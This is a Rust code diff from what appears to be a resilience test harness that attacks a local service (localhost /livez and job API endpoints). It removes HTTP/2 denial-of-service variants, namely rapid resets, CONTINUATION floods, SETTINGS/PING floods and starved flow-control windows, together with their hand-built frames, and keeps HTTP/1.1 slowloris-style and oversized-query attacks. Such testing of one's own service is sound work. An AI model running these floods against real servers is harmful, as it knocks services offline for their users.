@@ -7,19 +7,11 @@ use tokio::task::JoinSet;
 
 use super::site::Site;
 use crate::given::job;
-use crate::tls::http2::{HEADERS, RST_STREAM, SETTINGS, frame};
 use crate::wire::create_head;
 
 const HEAD: &str = "GET /livez HTTP/1.1\r\nHost: localhost\r\n";
 const LIST: &str = "GET /api/eks-list-jobs?limit=500 HTTP/1.1\r\nHost: localhost\r\n\r\n";
 const EVENTS: &str = "GET /api/eks-watch-jobs HTTP/1.1\r\nHost: localhost\r\n\r\n";
-/// What begins HTTP/2, with settings that give each stream a window of one byte.
-pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\x01";
-/// The same with a window of none.
-pub(super) const SHUT: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0";
-pub(super) const DATA: u8 = 0;
-const PING: u8 = 6;
-const CONTINUATION: u8 = 9;
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(super) enum Attack {
@@ -38,12 +30,6 @@ pub(super) enum Attack {
     UnreadReplies,
     UnreadStreams,
     HalfHandshakes,
-    RapidResets,
-    Continuations,
-    SettingsAndPings,
-    TinyWindows,
-    ClosedWindows,
-    StalledBodies,
 }
 
 impl Attack {
@@ -63,35 +49,12 @@ impl Attack {
         Self::UnreadReplies,
         Self::UnreadStreams,
     ];
-    /// Those of them that hold for HTTP/1.1 over TLS in another way, and those of TLS and HTTP/2 alone.
-    pub(super) const TLS: [Self; 10] = [
-        Self::SlowHeads,
-        Self::SlowBodies,
-        Self::UnreadReplies,
-        Self::HalfHandshakes,
-        Self::RapidResets,
-        Self::Continuations,
-        Self::SettingsAndPings,
-        Self::TinyWindows,
-        Self::ClosedWindows,
-        Self::StalledBodies,
-    ];
-
-    const fn is_http2(self) -> bool {
-        matches!(
-            self,
-            Self::RapidResets
-                | Self::Continuations
-                | Self::SettingsAndPings
-                | Self::TinyWindows
-                | Self::ClosedWindows
-                | Self::StalledBodies
-        )
-    }
+    /// Those of them that cost more over TLS, and that of TLS alone.
+    pub(super) const TLS: [Self; 4] = [Self::SlowHeads, Self::SlowBodies, Self::UnreadReplies, Self::HalfHandshakes];
 
     /// With so many connections. `begun` is called when as much is held as this attack holds at a time.
     pub(super) async fn run(self, site: Site, many: usize, begun: impl FnOnce()) {
-        let site = site.offering(if self.is_http2() { "h2" } else { "http/1.1" });
+        let site = site.offering("http/1.1");
         match self {
             Self::Silent => held(&site, many, b"", begun).await,
             Self::IdleAfterRequest => held(&site, many, format!("{HEAD}\r\n").as_bytes(), begun).await,
@@ -142,31 +105,6 @@ impl Attack {
                 }
                 begun();
                 pending::<()>().await;
-            }
-            Self::RapidResets => {
-                let pair = |n: u32| [request(2 * n + 1, "/metrics", 5), reset(2 * n + 1)].concat();
-                let sent = [PREFACE.to_vec(), (0..2000).flat_map(pair).collect()].concat();
-                again_and_again(&site, many, sent, begun).await;
-            }
-            Self::Continuations => {
-                let more = frame(CONTINUATION, 0, 1, &[0x00, 1, b'x', 1, b'a'].repeat(2000));
-                let sent = [PREFACE.to_vec(), request(1, "/livez", 1), more.repeat(100)].concat();
-                again_and_again(&site, many, sent, begun).await;
-            }
-            Self::SettingsAndPings => {
-                let both = [frame(SETTINGS, 0, 0, &[]), frame(PING, 0, 0, &[0; 8])].concat();
-                again_and_again(&site, many, [PREFACE.to_vec(), both.repeat(5000)].concat(), begun).await;
-            }
-            Self::TinyWindows | Self::ClosedWindows => {
-                let preface = if self == Self::TinyWindows { PREFACE } else { SHUT };
-                let list = |n: u32| request(2 * n + 1, "/api/eks-list-jobs?limit=500", 5);
-                let sent = [preface.to_vec(), (0..100).flat_map(list).collect()].concat();
-                held(&site, many, &sent, begun).await;
-            }
-            Self::StalledBodies => {
-                let create = |n: u32| [create(2 * n + 1), frame(DATA, 0, 2 * n + 1, &[b' '; 2500])].concat();
-                let sent = [PREFACE.to_vec(), (0..100).flat_map(create).collect()].concat();
-                held(&site, many, &sent, begun).await;
             }
         }
     }
@@ -227,21 +165,4 @@ fn absurd_queries() -> String {
     let pluses = format!("job_name={}", "+".repeat(30 << 10));
     [&*"&".repeat(30 << 10), &many[..30 << 10], &nested, &pluses].map(get).concat()
         + "GET /livez HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
-}
-
-/// GET over HTTP/2, with these flags.
-pub(super) fn request(stream: u32, path: &str, flags: u8) -> Vec<u8> {
-    let path = [&[0x04, u8::try_from(path.len()).unwrap()], path.as_bytes()].concat();
-    frame(HEADERS, flags, stream, &[&[0x82, 0x87][..], &path, &[0x01, 9], b"localhost"].concat())
-}
-
-/// The head of a create-job request over HTTP/2, whose body follows.
-pub(super) fn create(stream: u32) -> Vec<u8> {
-    let json = [&[0x0f, 0x10, 16][..], b"application/json"].concat();
-    let path = [&[0x04, 19][..], b"/api/eks-create-job"].concat();
-    frame(HEADERS, 4, stream, &[&[0x83, 0x87][..], &path, &[0x01, 9], b"localhost", &json].concat())
-}
-
-fn reset(stream: u32) -> Vec<u8> {
-    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
 }
